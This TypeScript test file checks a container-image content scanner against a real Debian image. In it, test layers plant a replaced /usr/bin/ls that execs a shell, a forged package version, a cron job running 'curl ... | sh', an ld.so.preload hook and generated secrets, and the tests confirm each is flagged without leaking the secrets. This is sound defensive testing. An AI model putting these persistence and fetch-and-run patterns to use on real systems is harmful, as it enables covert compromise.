// The content engine on the real Debian test image: zero findings as built, and the tampering,
// persistence and secrets an attacker's extra layer brings, found with a reason and never leaking a secret.
import { generateKeyPairSync, randomInt } from "node:crypto";
import { createReadStream } from "node:fs";
import path from "node:path";
import { pipeline } from "node:stream/promises";
import { createGunzip } from "node:zlib";
import tar from "tar-stream";
import { beforeAll, describe, expect, it } from "vitest";
import { analyzeLayer } from "../../../shared/analysis/analyze-layer.js";
import type { LayerReport } from "../../../shared/analysis/layer-report.js";
import { ANALYZERS, analyzerSetVersion } from "../../../shared/analysis/registry.js";
import { squashLayers } from "../../../shared/analysis/squash.js";
import { type ContentFact, type ContentFinding, ContentFactSchema } from "../../../shared/model/content.js";
import type { LayerRef } from "../../../shared/model/image.js";
import { DEFAULT_LIMITS } from "../../../shared/model/limits.js";
import type { Inventory } from "../../../shared/model/report.js";
import { PolicySchema } from "../../../shared/policy/policy.js";
import { renderSarif } from "../../../shared/report/sarif.js";
import { renderTable } from "../../../shared/report/table.js";
import { makeReport } from "../../../shared/stages/make-report.js";
import { buildDebianTestImage, type DebianTestImage } from "../../support/debian-image.js";
import { layerBlob, streamOf } from "../layers.js";

let image: DebianTestImage;
let base: LayerReport[];
let status: string;

const blobPath = (digest: string) => path.join(image.layoutDir, "blobs", ...digest.split(":"));

/** One file's content from a gzip layer blob, or undefined. */
async function readFromLayer(digest: string, wanted: string): Promise<string | undefined> {
  let found: string | undefined;
  const extract = tar.extract();
  extract.on("entry", (header, stream, next) => {
    const chunks: Buffer[] = [];
    const name = header.name.replace(/^\.?\//, "");
    stream.on("data", (c) => {
      if (name === wanted) chunks.push(c as Buffer);
    });
    stream.on("end", () => {
      if (name === wanted) found = Buffer.concat(chunks).toString("utf8");
      next();
    });
  });
  await pipeline(createReadStream(blobPath(digest)), createGunzip(), extract);
  return found;
}

beforeAll(async () => {
  image = await buildDebianTestImage();
  base = [];
  for (const layer of image.layers) {
    const ref: LayerRef = { digest: layer.digest, mediaType: layer.mediaType, size: layer.size };
    base.push(
      await analyzeLayer(createReadStream(blobPath(layer.digest)), ref, {
        analyzers: ANALYZERS,
        limits: DEFAULT_LIMITS,
      }),
    );
  }
  for (const layer of [...image.layers].reverse()) {
    const text = await readFromLayer(layer.digest, "var/lib/dpkg/status");
    if (text !== undefined) {
      status = text;
      break;
    }
  }
}, 600_000);

async function withLayer(entries: { name: string; content: string | Buffer }[]): Promise<LayerReport> {
  const blob = await layerBlob(entries);
  return analyzeLayer(streamOf(blob.bytes), blob.ref, { analyzers: ANALYZERS, limits: DEFAULT_LIMITS });
}

function contentOf(reports: readonly LayerReport[]): {
  findings: ContentFinding[];
  warnings: ContentFact["warnings"] & {};
  inventory: Inventory;
} {
  const squashed = squashLayers(reports, { analyzers: ANALYZERS });
  const inventory: Inventory = {
    schemaVersion: 1,
    image: {
      ref: "oci:debian:bookworm",
      registry: "",
      repository: "debian",
      digest: `sha256:${"0".repeat(64)}`,
      tags: ["bookworm"],
      platform: { os: "linux", architecture: "amd64" },
    },
    layers: reports.map((r) => r.digest),
    analyzerSet: analyzerSetVersion(ANALYZERS),
    packages: squashed.packages,
    warnings: squashed.warnings,
    facts: squashed.facts,
  };
  const fact = ContentFactSchema.parse(squashed.facts.content);
  return { findings: fact.findings, warnings: fact.warnings ?? [], inventory };
}

const report = (inventory: Inventory) =>
  makeReport(inventory, [], undefined, { policy: PolicySchema.parse({}) }).report;

describe("content engine on the real Debian image", () => {
  it("finds nothing in the image as Debian built it (its own binaries, scripts, cron jobs and units)", () => {
    const { findings, warnings, inventory } = contentOf(base);
    expect(findings).toEqual([]);
    // every ELF header of Debian's own binaries reads cleanly (no elf-unreadable), nothing unverified
    expect(warnings).toEqual([]);
    const out = report(inventory);
    expect(out.content).toEqual([]);
    expect(out.verdict?.decision).toBe("pass");
  });

  it("flags a packaged binary replaced by a later layer as an integrity mismatch, and blocks", async () => {
    const planted = await withLayer([{ name: "usr/bin/ls", content: "#!/bin/sh\nexec /bin/sh\n" }]);
    const { findings, inventory } = contentOf([...base, planted]);
    expect(findings.map((f) => [f.rule, f.category, f.path, f.layer])).toEqual([
      ["integrity/dpkg-md5sums", "integrity", "/usr/bin/ls", planted.digest],
    ]);
    expect(findings[0]!.summary).toContain("package coreutils");
    expect(findings[0]!.sha256).toMatch(/^[0-9a-f]{64}$/);
    const out = report(inventory);
    expect(out.verdict?.decision).toBe("block");
    expect(out.content?.[0]?.tier).toBe("block");
    expect(renderTable(out, { color: false })).toContain("integrity/dpkg-md5sums  /usr/bin/ls");
  });

  it("flags a status edit that claims a newer version while the files stay old", async () => {
    const match = /Package: coreutils\n(?:[^\n]+\n)*?Version: ([^\n]+)\n/.exec(status);
    expect(match).not.toBeNull();
    const old = match![1]!;
    const forged = status.replace(
      match![0],
      match![0].replace(`Version: ${old}`, `Version: ${old}+deb12u99`),
    );
    const edit = await withLayer([{ name: "var/lib/dpkg/status", content: forged }]);
    const { findings, inventory } = contentOf([...base, edit]);
    expect(findings.map((f) => [f.rule, f.path, f.layer])).toEqual([
      ["integrity/dpkg-status-version", "/var/lib/dpkg/status", edit.digest],
    ]);
    expect(findings[0]!.summary).toContain(`coreutils ${old}+deb12u99`);
    expect(findings[0]!.evidence.join("\n")).toContain(`from ${old} to ${old}+deb12u99`);
    // the vulnerability side sees the forged version: that is why this must block
    expect(inventory.packages.find((p) => p.name === "coreutils")?.version).toBe(`${old}+deb12u99`);
    expect(report(inventory).verdict?.decision).toBe("block");
  });

  it("reports a planted cron job, ld.so.preload and secrets, without the secret in any output", async () => {
    const { privateKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
    const pem = privateKey.export({ type: "pkcs1", format: "pem" }).toString();
    const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    const awsKey = `AKIA${Array.from({ length: 16 }, () => alphabet[randomInt(alphabet.length)]).join("")}`;
    const planted = await withLayer([
      { name: "etc/cron.d/update", content: "* * * * * root curl -s http://127.0.0.1/x | sh\n" },
      { name: "etc/ld.so.preload", content: "/usr/lib/x86_64-linux-gnu/libhook.so\n" },
      { name: "root/.ssh/id_rsa", content: pem },
      { name: "app/.env", content: `REGION=eu-west-1\nAWS_ACCESS_KEY_ID=${awsKey}\n` },
    ]);
    const { findings, inventory } = contentOf([...base, planted]);
    expect(findings.map((f) => [f.rule, f.category, f.path, f.confidence])).toEqual([
      ["persistence/cron", "persistence", "/etc/cron.d/update", "suspected"],
      ["persistence/ld-so-preload", "persistence", "/etc/ld.so.preload", "suspected"],
      ["secret/aws-access-key-id", "secret", "/app/.env", "suspected"],
      ["secret/private-key", "secret", "/root/.ssh/id_rsa", "suspected"],
    ]);
    expect(findings.find((f) => f.path === "/app/.env")?.evidence).toEqual([
      "line 2: AWS access key id (value withheld)",
    ]);
    expect(findings.every((f) => f.layer === planted.digest && f.engines.includes("portcullis"))).toBe(true);

    const out = report(inventory);
    expect(out.verdict?.decision).toBe("pass");
    expect(out.verdict?.reasons.join("\n")).toContain("report: 4 content findings");
    const body = pem.split("\n").filter((l) => l !== "" && !l.startsWith("-----"));
    const outputs = [
      JSON.stringify(out),
      renderTable(out, { color: false }),
      JSON.stringify(renderSarif([out])),
      JSON.stringify(planted),
    ];
    for (const text of outputs) {
      expect(text).not.toContain(awsKey);
      for (const line of body) expect(text).not.toContain(line);
    }
    expect(renderTable(out, { color: false })).toContain("persistence/ld-so-preload  /etc/ld.so.preload");
    expect(renderSarif([out]).runs[0]!.results.map((r) => r.ruleId)).toContain("secret/private-key");
  });
});
